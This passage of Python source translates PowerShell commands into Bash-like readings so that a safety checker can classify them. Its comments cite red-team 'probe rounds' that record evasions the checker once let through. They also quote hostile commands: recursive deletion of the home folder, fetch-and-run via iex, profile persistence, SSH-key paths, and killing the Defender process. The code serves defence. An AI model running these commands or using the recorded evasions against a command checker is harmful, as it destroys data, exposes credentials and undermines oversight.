_HOME_PARTS = re.compile(r"(?i)^(?:%s?(?:\$env:homepath|\$\{env:homepath\})|%s[\\/]+users[\\/]+"
                         r"(?:\$env:username|\$\{env:username\}))(?=$|[\\/])" % (_DRIVE_PART, _DRIVE_PART))


_SOME_DRIVE_ROOT = re.compile(r"(?:\$\((?:[^()]|\([^()]*\))*\)|\$\{[^{}:]*\}|\$\w+):[\\/]+(\*(?:\.\*)?)?")
_INNER_PLACE = re.compile(r"(?i)\$(?:home|\{home\}|env:(?:userprofile|home|systemdrive|homedrive|%s)|"
                          r"\{env:(?:userprofile|home|systemdrive|homedrive|%s)\})(?![\w:])" % (("|".join(_DIR_VARS),) * 2))


def _dynamic_word(v: str) -> str:
    """A word with a variable in it: $HOME and $env:USERPROFILE are the home, $env:X is
    the environment's X, anything else only known at run time."""
    _remote(v)   # (\\$host\share, \\10.0.0.5\c$\x: another machine's files)
    m = _SOME_DRIVE_ROOT.fullmatch(v) if ":" in v else None
    if m is not None:
        # ((probe round 51, pwsh51) "$([char]$_):\*", "${d}:\": the root of a drive only known at run
        # time, the system drive's standing for it)
        return _bare("C:\\" + (m.group(1) or ""))
    v = _HOME_PARTS.sub("$HOME", _filesystem_path(v), count=1)
    if v[:8].lower() in ("$using:h", "$using:e", "${using:"):
        # ((probe round 49, pwsh49) Start-Job { Remove-Item -Recurse -Force $using:HOME }: the caller's $HOME)
        v = re.sub(r"(?i)^\$(\{?)using:", r"$\1", v)
    if v.startswith("$") and "$" in v[1:]:
        return '"$POWERSHELL_VALUE"'   # (a place, then another variable: $HOME\$x may be the home)
    if not v.startswith("$") and v.count("$") == 1 and not re.search(r"\s", v):
        # (f=@$env:USERPROFILE\.ssh\id_rsa, --config=$HOME\.aws\config: a place inside a
        # word, as Bash's "f=@$HOME/.ssh/id_rsa" names it; probe round 31. Not a text with
        # blanks, which may be code iex runs: "Remove-Item -Recurse $env:USERPROFILE" | iex)
        m = _INNER_PLACE.search(v)
        if m and not re.search(r"[;|&(){}<>`'\"]", v[:m.start()] + v[m.end():]):
            place = _dynamic_word(m.group(0))
            if place.startswith("~"):
                place = "${HOME}" + place[1:]
            place = place.replace("'", "")
            if '"' not in place[1:-1] and "$POWERSHELL_VALUE" not in place:
                text = (v[:m.start()] + "\x01" + v[m.end():]).replace("\\", "/")
                text = re.sub(r'(["`\\$])', r"\\\1", text).replace("\x01", place.strip('"'))
                return '"' + text + '"'
    m = _HOME_VARS.match(v)
    if m:
        rest = v[m.end():].replace("\\", "/")
        return "~" + (shlex.quote(rest) if rest else "")
    m = _ROOT_VARS.match(v)
    if m:
        rest = v[m.end():].replace("\\", "/").lstrip("/")
        return "/c/" + shlex.quote(rest) if rest else "/c/"   # (the system drive, /c: probe round 41)
    m = _DIR_VAR.match(v)
    if m:
        base = _DIR_VARS[(m.group(1) or m.group(2)).lower()]
        rest = v[m.end():].replace("\\", "/")
        return (base[:2] + shlex.quote(base[2:] + rest)) if base.startswith("~") else shlex.quote(base + rest)
    m = _ENV_VAR.match(v)
    if m:
        return '"$' + (m.group(1) or m.group(2)) + '"'
    m = _PROFILE_VAR.fullmatch(v)
    if m:
        # $PROFILE and its four members: PowerShell's start-up files, as ~/.bashrc is
        # Bash's (Add-Content $PROFILE 'iex ...' runs at every start; probe round 30)
        return _PROFILES[(m.group(1) or "currentusercurrenthost").lower()]
    if v.lower() in ("$pwd", "${pwd}"):
        return "."
    here = _here_path(("v", v))
    if here is not None and not here[1]:
        return _bare(here[0][1])   # ($PWD\x.psm1, "$PWD/x": ./x; probe round 41)
    return '"$POWERSHELL_VALUE"'


# the working directory's and the running script's folder before a path ($PWD\x, ${PWD}/x,
# $PSScriptRoot\x.psm1)
_HERE_VAR = re.compile(r"(?i)^\$(?:(pwd|psscriptroot)|\{(pwd|psscriptroot)\})(?=[\\/])")


def _here_path(t: _T) -> tuple[_T, bool] | None:
    """(probe round 41, pwsh41) A path under $PWD or $PSScriptRoot as ./PATH, and whether it is
    only a guess: $PSScriptRoot is the running script's folder (empty in a command line), taken
    for the working directory so that a rule on ./x.psm1 meets $PSScriptRoot/x.psm1 (fail closed),
    the call still known only at run time."""
    m = _HERE_VAR.match(t[1]) if t[0] == "v" else None
    if m is None or "$" in t[1][m.end():] or "`" in t[1][m.end():]:
        return None
    return ("w", "." + t[1][m.end():]), (m.group(1) or m.group(2)).lower() == "psscriptroot"


# string methods that only compute ({ $_.Name.StartsWith('x') }); a file's Delete(),
# MoveTo(), CopyTo(), Open() and the like are not
_PURE_METHODS = frozenset({"startswith", "endswith", "contains", "tolower", "toupper", "trim", "trimstart",
                           "trimend", "equals", "indexof", "substring", "tostring", "compareto",
                           # (probe round 44, pwsh44) a string's, on a property ($_.FullName.Replace($PWD, ''));
                           # never on the item itself: a file's Replace(dest, backup) overwrites dest
                           "replace", "split", "padleft", "padright", "lastindexof", "tolowerinvariant",
                           "toupperinvariant"})
_ITEM_REPLACE = re.compile(r"(?i)\$(?:_|psitem)\s*\.\s*(?:replace|split)\s*\(")


def _pure_filter(block: str) -> bool:
    """A script block that only compares or prints properties of what flows in
    ({ $_.Length -gt 1kb }, { $_.Name -like '*.py' }, { $_.FullName })."""
    bare = re.sub(r"'[^']*'|\"[^\"$`]*\"", " ", block)
    if re.search(r"::|\[", bare) or _ITEM_REPLACE.search(bare) or any(m.lower() not in _PURE_METHODS for m in re.findall(r"\.\s*(\w+)\s*\(", bare)):
        # a method call that is no string comparison ({ $_.Delete() }, $_.MoveTo(...)) or a
        # type's ([IO.File]::Delete(...))
        return False
    return all(_FILTER_ATOM.match(a) for a in re.split(r"[\s!()=<>+*/%,]+", bare))


def _filter_values(block: str, depth: int) -> list[str] | None:
    """(probe round 41, pwsh41) A script block that is a pure filter once the values it compares
    with are computed ({ $_.LastWriteTime -lt (Get-Date).AddDays(-7) }, as Where-Object LastWriteTime
    -lt (Get-Date).AddDays(-7) reads since round 40): the readings of those values, computed first;
    None when the block is no such filter (a value read here as unknown, a method on $_)."""
    if "(" not in block or len(block) > 2000:
        return None
    runs: list[str] = []
    kept: list[str] = []
    i = last = 0
    masked = re.sub(r"'[^']*'|\"[^\"]*\"", lambda q: " " * len(q.group(0)), block)   # (no brackets in strings)
    try:
        while (i := masked.find("(", i)) >= 0:
            if re.search(r"[\w.\]]$", block[:i]):
                i += 1   # (a method's arguments, $_.Name.StartsWith('x'): _pure_filter's)
                continue
            j = _close(block, i)
            if block[i - 1:i] == "$":
                i -= 1   # ($(Get-Date).AddDays(-7): the same value)
            end = j + 1
            while (m := re.match(r"\s*\.\s*\w+\s*\(", block[end:])) is not None:
                end = _close(block, end + m.end() - 1) + 1
            text = block[i:end]
            if end == j + 1 and block[i] == "(":
                if _pure_filter(block[i + 1:j]):
                    i = end   # (a comparison grouped)
                    continue
                inner = _filter_values(block[i + 1:j], depth)
                if inner is not None:
                    runs += inner   # (($_.LastWriteTime -lt (Get-Date).AddDays(-7)) -and ...)
                    kept.append(block[last:i] + " 0 ")
                    i = last = end
                    continue
            got = to_bash(text, depth + 1)
            if UNKNOWN in got:
                return None
            runs.append(got)
            kept.append(block[last:i] + " 0 ")
            i = last = end
    except (_Unknown, IndexError):
        return None
    return runs if runs and _pure_filter("".join(kept) + block[last:]) else None


def _switch(key: str) -> bool:
    return any(f.startswith(key) for f in _SWITCHES) and not key.startswith(("ex", "in", "fi", "pa"))


_SPLAT = re.compile(r"^@\w+$")


def _params(toks: list[_T]) -> tuple[dict[str, list[_T | None]], list[_T], list[tuple[str, _T]]]:
    """(named parameters, lower-cased without the dash -> their values (None for a switch), positional
    arguments, redirections)."""
    named: dict[str, list[_T | None]] = {}
    pos: list[_T] = []
    redirs: list[tuple[str, _T]] = []
    if any(t[0] in ("paren", "arr") and _STRING_LIST.fullmatch(t[1]) for t in toks):
        toks = _strings_spread(toks)
    i = 0
    while i < len(toks):
        t = toks[i]
        if t[0] == "op" and t[1] not in (",",):
            if t[1] in ("2>&1", "*>&1", ">&1", "1>&2") or t[1].endswith("&1") or t[1].endswith("&2"):
                i += 1
                continue
            if i + 1 >= len(toks) or toks[i + 1][0] == "op":
                raise _Unknown
            redirs.append((t[1], toks[i + 1]))
            i += 2
            continue
        if t[0] == "op":
            i += 1
            continue
        if t[0] == "w" and _SPLAT.match(t[1]):
            raise _Unknown   # (@p: parameters only known at run time)
        if t[0] == "p":
            name, colon, val = t[1][1:].partition(":")
            key = name.lower()
            if colon:
                named.setdefault(key, []).append(("w", val) if val else (toks[i + 1] if i + 1 < len(toks) else None))
                i += 2 if not val else 1
                continue
            nxt = toks[i + 1] if i + 1 < len(toks) else None
            if nxt is not None and nxt[0] not in ("p", "op") and not _switch(key):
                named.setdefault(key, []).append(nxt)
                i += 2
                # (-Path a, C:\\ / -ArgumentList '/c','rd': an array is the parameter's value)
                while i + 1 < len(toks) and toks[i] == ("op", ",") and toks[i + 1][0] not in ("p", "op"):
                    named[key].append(toks[i + 1])
                    i += 2
                continue
            named.setdefault(key, []).append(None)
            i += 1
            continue
        pos.append(t)
        i += 1
    return named, pos, redirs


# (probe round 50, benign55) ('a.txt','b.txt'), @('a.txt','b.txt'): an array of plain strings
# (no expansion, no escape, ASCII quotes only) given as an argument is its strings, as the
# comma list 'a.txt','b.txt' is (Get-Content -Path ('a.txt','b.txt') reads both)
_STRING_LIST = re.compile(r"""\s*(?:'[^'\n]*'|"[^"$`\n]*")(?:\s*,\s*(?:'[^'\n]*'|"[^"$`\n]*"))+\s*""")


_STRING_ITEM = re.compile(r"'([^'\n]*)'|" + r'"([^"$`\n]*)"')


def _strings_spread(toks: list[_T]) -> list[_T]:
    out: list[_T] = []
    for t in toks:
        if t[0] in ("paren", "arr") and t[1].isascii() and _STRING_LIST.fullmatch(t[1]):
            items = _STRING_ITEM.findall(t[1])
            for k, (a, b) in enumerate(items):
                if k:
                    out.append(("op", ","))
                out.append(("s", a or b))
        else:
            out.append(t)
    return out


def _has(named: dict, *full: str, least: int = 1) -> bool:
    """A parameter given by any unambiguous prefix of one of these names (-r, -rec, -fo)."""
    return any(any(f.startswith(k) and len(k) >= least for f in full) for k in named)


def _values(named: dict, *full: str, least: int = 2) -> list[_T]:
    out = []
    for k, vals in named.items():
        if any(f.startswith(k) and len(k) >= least for f in full):
            out.extend(v for v in vals if v is not None)
    return out


def _args_of(named: dict, pos: list[_T], path_params: tuple[str, ...]) -> list[_T]:
    """The paths a cmdlet is given: -Path/-LiteralPath values and positional words."""
    return _values(named, *path_params, least=1) + pos


def _redirs(redirs: list[tuple[str, _T]], depth: int) -> str:
    out = []
    for op, t in redirs:
        target = _word(t, depth)
        if op == "<":
            raise _Unknown   # (PowerShell has no input redirection)
        bash_op = {"*>": "&>", "*>>": "&>>"}.get(op, op)
        out.append(bash_op + " " + target)
    return (" " + " ".join(out)) if out else ""


def _command(toks: list[_T], depth: int, piped: bool | str, first: bool) -> str:
    if toks and toks[0][0] == "w" and any(t[0] in ("paren", "arr") for t in toks[1:]):
        toks = toks[:1] + _strings_spread(toks[1:])   # (probe round 50, benign55: ('a.txt','b.txt'))
    try:
        out = _command_inner(toks, depth, piped)
    except (_Unknown, IndexError):
        splats = [t for t in toks[1:] if t[0] == "w" and _SPLAT.match(t[1])]
        if splats:
            # (probe round 49, pwsh49) a splat whose table is not known here (@args at the top
            # level, @PSBoundParameters, a table from elsewhere) gives words and parameters only
            # known at run time: the call is its spelled-out words with the variable's value among
            # them (an array's or a string's items are positional: @HOME is $HOME), and something
            # unknown besides (Remove-Item -Recurse -Force ~ @args is rm -rf ~ and more, iwr @args
            # | iex is curl "$@" | sh; git status @args is never read-only)
            known = _command([("v", "$" + t[1][1:]) if t in splats else t for t in toks], depth, piped, first)
            return "{ " + known + "; " + UNKNOWN + "; }"
        # (probe round 30, redteam30b) an argument's (…), $(…) or @(…) runs before the
        # command, whatever the command is: Test-Path (Remove-Item -Recurse -Force ~) or
        # Get-Item $(…) unread was an unknown allowed in bypass
        runs = [to_bash(t[1], depth + 1) for t in toks[1:] if t[0] in ("paren", "sub", "arr")]
        if toks[:1] and toks[0][0] == "v" and toks[1:2] == [("w", "=")]:
            # (probe round 38, pwsh38) $a = @({ ... }), $a = { ... }, { ... }, $h = @{ k = { ... } }:
            # script blocks kept in an array or a table, run later by & $a[0] or $h.k; each is
            # read as code that runs, as $sb = { ... }'s is (a pure filter computes only)
            try:
                runs += [to_bash(b, depth + 1) for t in toks[2:] if t[0] in ("arr", "paren", "block")
                         for b in ([t[1]] if t[0] == "block" else _inner_blocks(t[1]))[:8] if not _pure_filter(b)]
            except (_Unknown, IndexError):
                runs.append(UNKNOWN)
        if runs:
            return "{ " + "; ".join(': "$(' + r + ')"' for r in runs) + "; " + UNKNOWN + "; }"
        return UNKNOWN
    # a subexpression in an expandable string runs, whatever the cmdlet does with the
    # text ("$(Remove-Item -Recurse ~)" given to Write-Output, -Filter or -Like)
    subs = [sub for t in toks if t[0] == "v" for sub in _subexpressions(t[1])]
    if subs:
        return "{ " + "; ".join(': "$(' + to_bash(sub, depth + 1) + ')"' for sub in subs) + "; " + out + "; }"
    return out


# (probe round 42, pwshbenign42) an expression statement that only computes a value: variables and
# their properties, literals, numbers, ranges and the value operators (no call, block, type, `$( )`)
_VALUE_VAR = re.compile(r"(?i)^\$(?:\{?(?:env|script|global|local|private):)?\w+\}?(?:\.\w+)*$")
_VALUE_WORD = re.compile(r"(?i)^(?:-?\d+(?:\.\d+)?(?:kb|mb|gb|tb|pb)?|\d+\.\.\d+|[-+*/%]|\.\.|,)$")
_VALUE_OP = re.compile(r"(?i)^-(?:[ci]?(?:split|join|replace|eq|ne|gt|ge|lt|le|like|notlike|match|notmatch|contains|"
                       r"notcontains|in|notin)|f|is|isnot|and|or|xor|not|band|bor|bxor|bnot|shl|shr)$")
# variables whose value changes what later commands do, or that PowerShell itself sets
_SPECIAL_VARIABLES = frozenset({
    "psdefaultparametervalues", "psmoduleautoloadingpreference", "executioncontext", "host", "home", "pwd",
    "profile", "pshome", "psscriptroot", "pscommandpath", "myinvocation", "pscmdlet", "args", "input", "_",
    "psitem", "this", "ofs", "psnativecommandargumentpassing", "pssessionconfigurationname", "pssessionoption",
    "psemailserver", "true", "false", "null", "error", "env", "function", "alias", "variable", "sessionstate",
    "psstyle", "outputencoding", "psculture", "psuiculture", "stacktrace", "nestedpromptlevel", "shellid"})
# preferences that only say what is shown or stops the line ($ErrorActionPreference = 'Stop')
_OUTPUT_PREFERENCE = re.compile(r"(?i)\$(?:(?:script|global|local):)?(?:erroraction|progress|verbose|warning|information|"
                                r"debug|confirm|whatif)preference")
_WHOLE: contextvars.ContextVar = contextvars.ContextVar("powershell_whole", default=None)


def _value_expr(toks: list[_T]) -> bool:
    if not toks:
        return False
    if toks[0][0] not in ("v", "s") and not (toks[0][0] == "w" and re.fullmatch(r"-?\d[\w.]*", toks[0][1])) \
            and not _literal_arr(toks[0]):
        return False
    for kind, text in toks:
        if kind == "arr" or kind == "op" and text == ",":
            if kind == "arr" and not _literal_arr((kind, text)):
                return False
        elif kind == "v":
            # (a variable, or an expandable string's text: its $( ) are read by _command)
            if not _VALUE_VAR.match(text) and (re.match(r"\$[\w{:]", text) or "`" in text):
                return False
        elif kind == "s":
            if "$(" in text or "`" in text or "$" in text and '"' in text[:1]:
                return False
        elif kind == "w":
            if not _VALUE_WORD.match(text):
                return False
        elif kind == "p":
            if not _VALUE_OP.match(text):
                return False
        else:
            return False
    return True


_DROPPED_READ = re.compile(r"\{ (?:cat|ls)(?: -[\w-]+)* -- [^;|&<>`$(){}\\]*; \} > /dev/null")
_PRINTED_SUB = re.compile(r': "\$\((?:echo|true)(?: (?:"\$POWERSHELL_VALUE"|' + r"'[^']*'" + r'|[\w.,:/=+-]+))*\)"')
_PRINTED = re.compile(r"""(?:echo|true)(?: (?:"\$POWERSHELL_VALUE"|'[^']*'|[\w.,:/=+-]+))*""")


def _prints_only(reading: str) -> bool:
    """(probe round 42) A reading that only prints values and reads files whose text is dropped."""
    reading = _DROPPED_READ.sub("true", reading)
    for _ in range(4):
        # (probe round 43, pwsh43) "$($_.Name): $($_.Length)": a subexpression that only prints a value
        # is a value (: "$(echo ...)"), the braces around the statement dropped
        got = _PRINTED_SUB.sub("true", reading)
        got = re.sub(r"^\s*\{ ((?:[^{}]|\$\()*); \}\s*$", r"\1", got)
        if got == reading:
            break
        reading = got
    return all(_PRINTED.fullmatch(x.strip()) for x in reading.split(";"))


def _literal_arr(t: _T) -> bool:
    """(probe round 42) @(1, 'a'), @{a = 1; b = 'x'}: an array or a table of literal values only."""
    return t[0] == "arr" and len(t[1]) < 2000 and _LITERAL_ITEMS.fullmatch(t[1]) is not None


_LITERAL = r"""(?:-?\d+(?:\.\d+)?|'[^']*'|"[^"$`]*"|\$(?:true|false|null))"""
_LITERAL_ITEM = r"""(?:(?:[A-Za-z_]\w*|'[^']*'|"[^"$`]*")\s*=\s*)?""" + _LITERAL
_LITERAL_ITEMS = re.compile(r"(?i)\s*(?:" + _LITERAL_ITEM + r"(?:\s*[,;\n]\s*" + _LITERAL_ITEM + r")*)?\s*")


_CALCULATED_ITEM = re.compile(r"""(?is)\s*(n|name|l|label|e|expression|width|alignment|formatstring|ascending|descending)"""
                              r"""\s*=\s*(""" + _LITERAL + r"""|\{[^{}]*\})\s*""")


def _calculated_property(t: _T) -> bool:
    """(probe round 43, pwsh43) @{Name='Size'; Expression={$_.Length}}: a calculated property of
    Select-Object, Sort-Object or Format-Table, whose expression only computes from the item."""
    return _calculated_blocks(t) == []


def _calculated_blocks(t: _T) -> list[str] | None:
    """(probe round 44, pwsh44) The code of a calculated property's expressions that do more than
    compute from the item (@{Expression={Remove-Item ~ -Recurse}}: run for each item; {[math]::Round(
    $_.Length / 1MB, 2)} only computes); None when t is no calculated property."""
    if t[0] != "arr" or len(t[1]) > 2000:
        return None
    out: list[str] = []
    # ((probe round 45, pwsh45) the table's entries split where its own ; and newlines are, not those
    # inside an expression's block: Expression={$s = $_.Length; [math]::Round($s / 1MB, 2)})
    items = _statements(t[1]) if "{" in t[1] else re.split(r"[;\n]", t[1])
    if items is None:
        return None
    for item in items:
        if not item.strip():
            continue
        m = _CALCULATED_ITEM.fullmatch(item)
        if m is None:
            return None
        body = m.group(2)[1:-1]
        if m.group(2).startswith("{") and not _computes(body):
            out.append(body)
    return out


def _computes(body: str, whole: bool = True) -> bool:
    """A calculated property's expression that only computes from the item: a pure filter, a pure
    .NET call, or ((probe round 45, pwsh45)) statements of them, each alone or given to a plain
    variable of the block's own ($s = $_.Length; [math]::Round($s / 1MB, 2))."""
    if _pure_filter(body) or (_PURE_STATIC.fullmatch(body) and not any(
            x.lower().startswith("invoke") for x in _PURE_STATIC_METHOD.findall(body))):
        return True
    if not whole or not re.search(r"[;\n]", body):
        return False
    stmts = _statements(body)
    if not stmts or len(stmts) > 8:
        return False
    mine: list[str] = []
    for st in stmts:
        m = re.fullmatch(r"(?s)\s*\$(\w+)\s*=(?!=)\s*(.+?)\s*", st)
        if m is not None and not _plain_variable("$" + m.group(1)):
            return False
        expr = m.group(2) if m is not None else st
        # (the block's own variables are values computed from the item, as $_'s properties are; a
        # string that only names them is a value too: "$k KB")
        for name in mine:
            expr = re.sub(r"(?i)\$%s(?![\w:])" % re.escape(name), "$_", expr)
        expr = re.sub(r'"(?:[^"`$]|\$_(?![\w(]))*"', "''", expr)
        if not _computes(expr, False):
            return False
        if m is not None:
            mine.append(m.group(1))
    return True


# (probe round 51, pwsh51) the value a statement writes: Set-Content/Add-Content PATH VALUE or -Value VALUE,
# Out-File -InputObject VALUE (the path given as a literal)
_VALUE_SINK = re.compile(r"(?i)(?:^|[;\n{])\s*(?:(?:set-content|add-content|sc|ac)\s+(?:[^;\n|]*\s)?-value|out-file\s+"
                         r"(?:[^;\n|]*\s)?-inputobject|(?:set-content|add-content|sc|ac)\s+(?:-(?:literal)?path\s+)?"
                         r"(?:'[^']*'|\"[^\"$`]*\"|[^\s$'\"(@-][^\s;|$()]*))\s+$")


def _plain_variable(name: str) -> bool:
    m = re.fullmatch(r"(?i)\$(?:(?:script|global|local|private):)?(\w+)", name)
    return m is not None and m.group(1).lower() not in _SPECIAL_VARIABLES and not m.group(1).lower().endswith("preference")


def _data_variable(name: str) -> bool:
    """(probe round 47, pwsh47) Is this plain variable bound once in the whole code, to data parsed
    from text (_DATA_ASSIGN)?"""
    whole = _WHOLE.get()
    if whole is None or not _plain_variable(name) or "onvertfrom-" not in whole.lower() \
            or _OTHER_BINDINGS.search(whole):
        return False
    var = re.sub(r"(?i)^\$(?:(?:script|global|local|private):)?", "", name).lower()
    return any(m.group(1).lower() == var for m in _DATA_ASSIGN.finditer(whole)) and _binds(var, whole) == 1


def _data_property_set(toks: list[_T]) -> bool:
    """$j.version = '2.0' (=, +=): a data variable's property given a plain value."""
    m = re.fullmatch(r"(\$\w+)(?:\.\w+)+", toks[0][1]) if toks[0][0] == "v" else None
    if m is None or len(toks) != 3 or toks[1] not in (("w", "="), ("w", "+=")) or toks[2][0] not in ("s", "w", "v"):
        return False
    value = "'" + toks[2][1].replace("'", "''") + "'" if toks[2][0] == "s" else toks[2][1]
    return _DATA_VALUE_RE.fullmatch(value) is not None and _data_variable(m.group(1))


def _only_properties_read(name: str) -> bool:
    """Every use of the variable in the whole code (besides its assignments) reads a property
    ($files.Count, $json.scripts.build) and calls nothing, and nothing else binds or runs it
    ((probe round 47, pwsh47) data parsed from text: a property of it set to a plain value too, and
    the value piped on at a statement's start: $j | ConvertTo-Json | Set-Content package.json)."""
    whole = _WHOLE.get()
    if whole is None or _OTHER_BINDINGS.search(whole):
        return False
    var = re.escape(re.sub(r"(?i)^\$(?:(?:script|global|local|private):)?", "", name))
    data = _data_variable(name)
    for m in re.finditer(r"(?i)\$(\{)?(?:(?:script|global|local|private):)?" + var + r"(?(1)\}|(?![\w:]))", whole):
        after = whole[m.end():]
        if re.match(r"\s*=(?!=)", after):
            continue   # (an assignment: read on its own)
        if data and (_PIPED_USE.match(after) or _DATA_SET_USE.match(after)) \
                and re.search(r"(?:^|[;\n{])\s*$", whole[:m.start()]):
            continue   # (data: piped on, or a property of it set to a plain value)
        if re.match(r"\s*\)", after) and re.search(r"(?i)(?:^|[;{\s])(?:if|elseif|while)\s*\(\s*$", whole[:m.start()]):
            continue   # (if ($result) { ... }: the value tested)
        if re.match(r"\s*\)\s*\{", after) and re.search(r"(?i)(?:^|[;{\s])foreach\s*\(\s*\$\w+\s+in\s+$",
                                                            whole[:m.start()]):
            continue   # ((probe round 44, pwsh44) foreach ($f in $files) { ... }: each item in the loop's variable)
        if _PIPED_USE.match(after) and re.search(r"(?:^|[;\n{])\s*$", whole[:m.start()]) and any(
                a.group(1).lower() == var.lower() for a in _READ_ASSIGN.finditer(whole)):
            continue   # ($items | ...: read as the reading piped on, _bound's; probe round 43; in a block, 44)
        if (data or any(a.group(1).lower() == var.lower() for a in _READ_ASSIGN.finditer(whole))) \
                and re.match(r"[ \t]*(?:$|[;\n}|]|[ \t]-\w)", after) and _INPUT_OBJECT_SINK.search(whole[:m.start()]):
            continue   # ((probe round 50, benign55) Export-Csv -InputObject $d -Path F: $d | Export-Csv -Path F)
        if re.match(r"[ \t]*(?:$|[;\n}])", after) and re.search(
                r"(?i)(?:(?:^|[;\n{])\s*|(?:^|[;\n{])\s*(?:write-output|write-host|echo)\s+)$", whole[:m.start()]):
            continue   # ((probe round 44, pwsh44) $content alone, Write-Output $content: the value printed)
        if re.match(r"\s+-[ci]?(?:replace|split|join|trim)\s", after) and re.search(r"=\s*$", whole[:m.start()]):
            continue   # ((probe round 51, pwsh51) $c = $c -replace 'a','b': a value computed from it)
        if re.match(r"[ \t]*(?:$|[;\n}]|[ \t]-\w)", after) and _VALUE_SINK.search(whole[:m.start()]):
            continue   # ((probe round 51) Set-Content x.json $c, Add-Content -Value $c: the text written)
        if not re.match(r"(?:\.\w+)+(?![\w(\[{.]|\s*\()", after):
            return False
        before = re.search(r"(\S*)\s*$", whole[:m.start()]).group(1)
        if not (before == "" or before[-1:] in ";{(\n,=+*/%" or _VALUE_OP.match(before)
                or before.lower() in ("write-output", "write-host", "echo")):
            return False   # (an argument: Remove-Item $x.FullName is read with the value unknown)
    return True


# (probe round 42, pwshbenign42) a value from a type that only computes (no file, process, network or
# setting touched), or a literal string's method, with literal or variable arguments, then properties
# or more such calls
_PURE_ATOM = r"""(?:-?[\d.]+(?:kb|mb|gb|tb|pb)?|'[^']*'|"[^"$`]*"|\$(?:env:)?\w+(?:\.\w+)*|\[char\]\d+)"""
# ((probe round 44, pwsh44) arithmetic of such values: [math]::Round($_.Length / 1MB, 2))
_PURE_ARG = _PURE_ATOM + r"""(?:\s*[-+*/%]\s*""" + _PURE_ATOM + r""")*"""
_PURE_ARGS = r"\(\s*(?:" + _PURE_ARG + r"\s*(?:,\s*" + _PURE_ARG + r"\s*)*)?\)"
_PURE_STATIC = re.compile(
    r"""(?i)\s*(?:\[(?:system\.)?(?:math|io\.path|datetime|datetimeoffset|timespan|guid|string|char|int|int32|int64|long|"""
    r"""double|decimal|bool|convert|bitconverter|version|uri|(?:text\.regularexpressions\.)?regex|text\.encoding)\]::"""
    r"""(?!gettempfilename\b)\w+(?:""" + _PURE_ARGS + r""")?|\[(?:system\.)?environment\]::(?!exit\b|failfast\b)\w+(?![\w(])|"""
    r"""\[(?:system\.)?console\]::write(?:line)?""" + _PURE_ARGS + r"""|'[^']*'|"[^"$`]*")"""
    r"""(?:\.\w+(?:""" + _PURE_ARGS + r""")?)*\s*""")
_PURE_STATIC_METHOD = re.compile(r"(?i)\.(\w+)\(")


# (probe round 42, pwshbenign42) properties of files, processes, services and matches, read by
# ForEach-Object NAME (no method among them)
_READ_PROPERTIES = frozenset({
    "name", "fullname", "basename", "extension", "length", "directoryname", "directory", "parent", "lastwritetime",
    "creationtime", "lastaccesstime", "mode", "attributes", "id", "processname", "path", "cpu", "workingset",
    "status", "displayname", "line", "linenumber", "filename", "matches", "value", "key", "count", "pscomputername",
    "psparentpath", "pspath", "pschildname", "starttime", "source", "version", "definition", "commandtype"})


# (probe round 40, pwsh40) methods that only compute a value (a date's Add*, a string's), with
# literal arguments, then properties or more such calls
_VALUE_CALLS = re.compile(r"(?i)(?:\.\s*(?:\w+|(?:add(?:days|hours|minutes|seconds|milliseconds|months|years|ticks)|"
                          r"tostring|tolower|toupper|trim|trimstart|trimend|substring|startswith|endswith|contains|"
                          r"indexof|padleft|padright|split|equals|compareto|tolocaltime|touniversaltime)"
                          r"\(\s*(?:(?:-?[\d.]+|'[^']*'|\"[^\"$`]*\")\s*(?:,\s*(?:-?[\d.]+|'[^']*'|\"[^\"$`]*\")\s*)*)?\)))+")


_TEXT_READ = re.compile(r"(?i)\s*(?:get-content|gc|cat|type)\s[^|;]*$")


def _member_call(expr: str, member: str, depth: int) -> str:
    """What a member called on an expression does: Delete() on an item deletes it
    ((Get-Item C:\\).Delete($true) is rm -r -f /); a property read is nothing; any other
    method is not read here."""
    if re.fullmatch(r"(?:\.\w+)+", member):
        return "true"
    if _VALUE_CALLS.fullmatch(member) or member[:9].lower() == ".replace(" and _TEXT_READ.match(expr) \
            and _VALUE_CALLS.fullmatch(".trim(" + member[9:]):
        # (probe round 40, pwsh40) (Get-Date).AddDays(-7), ('x').ToUpper(): a value computed from
        # the expression's, with literal arguments; nothing else runs ((probe round 51, pwsh51) and a
        # file's text's .Replace('a', 'b'), (Get-Content x.json -Raw).Replace(...): a string's)
        return "true"
    if re.match(r"(?i)\.kill\(", member) and _process_names_of(expr):
        # ((Get-Process MsMpEng).Kill(): those processes killed; probe round 37, pwsh37)
        return "kill -9 " + " ".join(shlex.quote(n) for n in _process_names_of(expr))
    if re.match(r"(?i)\.delete\(", member):
        try:
            items = _items_of(_tokens(expr))
        except (_Unknown, IndexError):
            items = None
        if items and items[0][0] != "drive":
            return "rm -r -f -- " + " ".join(_word(t, depth) for t in items)
    return UNKNOWN


# the words a statement's keyword takes besides its (conditions) and {blocks}
_STATEMENT_WORDS = {"if": frozenset({"elseif", "else"}), "try": frozenset({"catch", "finally"}),
                    "do": frozenset({"while", "until"})}


def _statement_redirs(keyword: str, rest: list[_T], depth: int) -> str:
    """The redirections after a statement's blocks (if (…) {…} > $PROFILE writes there, as
    the block's output goes: probe round 28); a word the statement does not take (an
    argument after the closing brace) is not read: unknown. switch takes its -Regex-like
    switches, a function or filter its name."""
    allowed = _STATEMENT_WORDS.get(keyword, frozenset())
    others: list[_T] = []
    for i, t in enumerate(rest):
        if t[0] in ("paren", "block"):
            continue
        if t[0] == "w" and (t[1].lower() in allowed or (keyword in ("function", "filter") and i == 0)):
            continue
        if t[0] == "p" and keyword == "switch" and t[1].lower() in (
                "-regex", "-wildcard", "-exact", "-casesensitive"):
            continue
        others.append(t)
    if not others:
        return ""
    named, pos, redirs = _params(others)
    if named or pos:
        raise _Unknown
    return _redirs(redirs, depth)


def _switch_clauses(body: str, depth: int) -> list[str]:
    """(probe round 40, pwsh40) A switch's body as Bash: each clause a label (a literal, a
    (condition) or a { condition } block, or default) then its { action }; any other shape
    is not read here."""
    toks = [t for t in _tokens(body) if t != ("op", ";")]
    if len(toks) % 2 or len(toks) > 200:
        raise _Unknown
    out = []
    for label, action in zip(toks[::2], toks[1::2]):
        if action[0] != "block" or label[0] not in ("s", "w", "v", "paren", "block", "sub"):
            raise _Unknown
        if label[0] in ("paren", "block", "sub"):
            out.append(to_bash(label[1], depth + 1) + " > /dev/null")
        elif label[0] == "w" and label[1].startswith(("$", "@", "(")):
            raise _Unknown
        out.append(to_bash(action[1], depth + 1))
    return out or ["true"]


def _switch_redirs(rest: list[_T], depth: int) -> str:
